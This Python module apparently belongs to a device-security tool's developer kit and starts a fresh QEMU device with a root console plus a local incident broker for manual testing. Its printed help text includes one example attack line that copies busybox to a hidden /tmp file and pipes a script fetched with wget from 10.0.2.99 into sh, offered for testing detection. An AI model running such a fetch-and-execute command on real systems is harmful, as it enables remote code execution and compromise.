"""`make qemu`: a root console on a device in QEMU, and a broker here that hears what it tells.

Rule: the device is a new one each time, with keys of its own; broker and device end together.
"""

from __future__ import annotations

import shlex
import signal
import sys
from pathlib import Path

from vedette.errors import RequestError
from vedette_dev.cache import REPOSITORY
from vedette_dev.device.owners import owners_of
from vedette_dev.device.site import TENANT, Site
from vedette_dev.guests.guest import Guest
from vedette_dev.guests.settings import GuestSettings
from vedette_dev.images import built, target
from vedette_dev.terminal import say

_INVITATION = """
device    {device}, {memory_mb} MiB, started by U-Boot; press Enter once it asks for it
incidents in another terminal:
            {watch}
attack it by hand, for example:
            cp /usr/bin/busybox /tmp/.x; /tmp/.x wget -O- http://10.0.2.99/x.sh | sh
end       poweroff, or Ctrl-A X
"""


def run(folder: Path, arch: str, *, memory_mb: int) -> int:
    """Start a device with its console on this terminal; returns when it is off.

    Raises:
        RequestError: it would have too little memory, or nobody sits at a terminal.
        DeviceError: it cannot be built or started.
    """
    least_mb = target(arch).least_mb
    if memory_mb < least_mb:
        raise RequestError(f"--memory: expected at least {least_mb} MB for {arch}, got {memory_mb}")
    if not sys.stdin.isatty():
        raise RequestError("a console needs a terminal: run `make qemu` in one")
    image = built(arch, say)
    device = f"qemu-{arch}"
    with Site(folder, device, rules=REPOSITORY / "rules", show=say) as site:
        settings = GuestSettings(
            memory_mb=memory_mb,
            data=site.data(owners_of(image)),
            forwards=site.forwards,
            is_interactive=True,
        )
        with Guest(image, folder / "device", settings) as guest:
            say(_INVITATION.format(device=device, memory_mb=memory_mb, watch=_watch(site)))
            # Ctrl-C is for the device's shell; the terminal gives it to us too.
            before = signal.signal(signal.SIGINT, signal.SIG_IGN)
            try:
                guest.launch()
                guest.wait()
            finally:
                signal.signal(signal.SIGINT, before)
    return 0


def _watch(site: Site) -> str:
    operator = site.broker.clients["operator"]
    words = [
        Path(sys.executable).with_name("vedette"), "fleet", "watch", "--tenant", TENANT,
        "--registry", site.folder / "registry.json", "--host", "127.0.0.1",
        "--port", site.broker.port, "--ca", site.broker.authority.file,
        "--certificate", operator.certificate, "--key", operator.key,
    ]  # fmt: skip
    return shlex.join(map(str, words))
